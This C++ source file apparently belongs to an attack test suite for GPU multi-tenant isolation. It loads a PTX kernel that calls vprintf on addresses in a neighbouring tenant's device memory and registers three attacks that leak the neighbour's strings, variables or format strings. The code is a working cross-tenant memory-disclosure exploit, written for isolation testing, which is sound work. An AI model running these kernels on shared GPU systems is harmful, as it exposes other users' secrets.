// Kernels that print what is at a neighbour's addresses: the format, and strings, are read by the
// server's process and not by the kernel.
#include <sys/mman.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "tests/attack/tier/attack.h"

namespace warpline::attack {
namespace {

// `print(format, argument)`; for `format` 0 it is "%s".
constexpr char kPrint[] = R"(
.version 7.0
.target sm_75
.address_size 64
.extern .func (.param .b32 result) vprintf(.param .b64 format, .param .b64 arguments);
.global .align 1 .b8 string[5] = {91, 37, 115, 93, 0};
.visible .entry print(.param .u64 format, .param .u64 argument)
{
  .reg .pred %p<2>;
  .reg .b32 %r<2>;
  .reg .b64 %rd<7>;
  .local .align 8 .b8 arguments[8];
  ld.param.u64 %rd1, [format];
  ld.param.u64 %rd2, [argument];
  mov.u64 %rd3, arguments;
  cvta.local.u64 %rd4, %rd3;
  st.local.u64 [%rd3], %rd2;
  setp.ne.u64 %p1, %rd1, 0;
  mov.u64 %rd5, string;
  cvta.global.u64 %rd6, %rd5;
  @%p1 mov.u64 %rd6, %rd1;
  {
    .param .b64 f;
    .param .b64 a;
    .param .b32 o;
    st.param.b64 [f], %rd6;
    st.param.b64 [a], %rd4;
    call.uni (o), vprintf, (f, a);
    ld.param.b32 %r1, [o];
  }
  ret;
}
)";

// From this word on, the neighbour's secrets have no byte that is zero.
constexpr uint64_t kFirstString = 0x101 * sizeof(uint32_t);

// What the process prints meanwhile.
class PrintedText {
 public:
  PrintedText() : file_(memfd_create("printed", MFD_CLOEXEC)), stdout_(dup(STDOUT_FILENO)) {
    std::fflush(stdout);
    dup2(file_, STDOUT_FILENO);
  }
  std::string Finish() {
    std::fflush(stdout);
    dup2(stdout_, STDOUT_FILENO);
    std::string text(1 << 16, '\0');
    const ssize_t bytes = pread(file_, text.data(), text.size(), 0);
    text.resize(bytes > 0 ? static_cast<size_t>(bytes) : 0);
    return text;
  }

 private:
  const int file_, stdout_;
};

// Each word of the text, wherever it begins.
std::vector<uint32_t> WordsOf(const std::string& text) {
  std::vector<uint32_t> words;
  for (size_t i = 0; i + sizeof(uint32_t) <= text.size(); ++i) {
    std::memcpy(&words.emplace_back(), text.data() + i, sizeof(uint32_t));
  }
  return words;
}

// The kernel prints something of its own as well: otherwise nothing is shown.
absl::StatusOr<Loot> Print(Home* home, uint64_t format, uint64_t argument) {
  CUmodule module = nullptr;
  CUfunction print = nullptr;
  if (DRIVER(cuModuleLoadData)(&module, kPrint) != CUDA_SUCCESS ||
      DRIVER(cuModuleGetFunction)(&print, module, "print") != CUDA_SUCCESS) {
    return absl::InternalError("no kernel that prints");
  }
  constexpr char kOwn[] = "its own";
  uint64_t own = home->memory(), none = 0;
  if (DRIVER(cuMemcpyHtoD_v2)(own, kOwn, sizeof(kOwn)) != CUDA_SUCCESS) {
    return absl::InternalError("no text of its own");
  }
  void* of_own[] = {&none, &own};
  void* of_there[] = {&format, &argument};
  PrintedText printed;
  CUresult result = DRIVER(cuLaunchKernel)(print, 1, 1, 1, 1, 1, 1, 0, nullptr, of_own, nullptr);
  if (result == CUDA_SUCCESS) {
    result = DRIVER(cuLaunchKernel)(print, 1, 1, 1, 1, 1, 1, 0, nullptr, of_there, nullptr);
  }
  if (result == CUDA_SUCCESS) result = DRIVER(cuCtxSynchronize)();
  const std::string text = printed.Finish();
  if (text.find(kOwn) == std::string::npos) {
    return absl::InternalError(absl::StrCat("nothing is printed: CUDA error ", int{result}));
  }
  return Loot{WordsOf(text), absl::StrCat("printed ", text.size(), " bytes")};
}

absl::StatusOr<Loot> Strings(Home* home, const TierTarget& target) {
  return Print(home, 0, target.neighbour->memory + kFirstString);
}

absl::StatusOr<Loot> Formats(Home* home, const TierTarget& target) {
  return Print(home, target.neighbour->memory + kFirstString, home->memory());
}

absl::StatusOr<Loot> StringsOfVariables(Home* home, const TierTarget& target) {
  return Print(home, 0, target.neighbour->variable + kFirstString);
}

constexpr TierAttack kAttacks[] = {
    {"kernel_prints_strings_of_there", &Strings},
    {"kernel_prints_variables_of_there", &StringsOfVariables},
    {"kernel_prints_by_a_format_of_there", &Formats},
};

}  // namespace

absl::Span<const TierAttack> PrintAttacks() { return kAttacks; }

}  // namespace warpline::attack
